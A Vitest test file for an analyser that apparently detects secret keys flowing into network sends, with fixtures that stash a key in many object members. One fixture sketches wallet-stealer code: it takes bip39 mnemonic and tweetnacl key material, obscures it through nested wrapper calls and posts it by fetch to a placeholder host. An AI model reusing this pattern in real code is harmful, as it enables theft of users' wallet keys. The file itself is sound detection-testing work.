import { expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';
import { keySentInJavaScript, keySentInPython } from './testing/keySent.ts';

// An object that holds a key in so many places that they are not all told apart.
const MEMBERS = Array.from('abcdefgh');

it('another member of an object that holds a key in many places is a guess', async () => {
  const body = `const o = { host: 'x' }; ${MEMBERS.map((name) => `o.${name} = k;`).join(' ')} send(o.host);`;
  expect(await keySentInJavaScript('', body)).toEqual(['medium']);
});

it('so is one of a member that is an object', async () => {
  const body = `const o = { config: { host: 'x' } }; ${MEMBERS.map((name) => `o.config.${name} = { v: k };`).join(' ')} send(o.config.host);`;
  expect(await keySentInJavaScript('', body)).not.toContain('high');
});

it('the object as a whole holds the key, however many places there are', async () => {
  const body = `const o = { host: 'x' }; ${MEMBERS.map((name) => `o.${name} = k;`).join(' ')} send(JSON.stringify(o));`;
  expect(await keySentInJavaScript('', body)).toContain('high');
  const python = `o = Box()\n    ${MEMBERS.map((name) => `o.${name} = k`).join('\n    ')}\n    send(repr(vars(o)))`;
  expect(await keySentInPython('class Box:\n    pass', python)).not.toEqual([]);
});

it('the first places are no guess', async () => {
  const body = `const o = { host: 'x' }; ${MEMBERS.map((name) => `o.${name} = k;`).join(' ')} send(o.a);`;
  expect(await keySentInJavaScript('', body)).toEqual(['high']);
});

it('what holds a key only somewhere, and is sent as it is, is a guess', async () => {
  const text = `
const late = (x) => [x].map((y) => y)[0];
exports.main = (k, j) => {
  require('tweetnacl').sign.detached('', j); require('bip39').mnemonicToSeed(k);
  const o = {}; o.a = j; o.b = j; o.c = j; o.d = j;
  o.z = late(late(late(k)));
  fetch('https://example.invalid', { body: o });
};`;
  const { flows } = await analyseSources({ 'a.js': text });
  expect(flows.map(({ confidence, points }) => [points[0]?.what, confidence])).toEqual([
    ['is the key (j) that npm:tweetnacl.sign.detached takes', 'high'],
    ['is the key (k) that npm:bip39.mnemonicToSeed takes', 'medium'],
  ]);
});
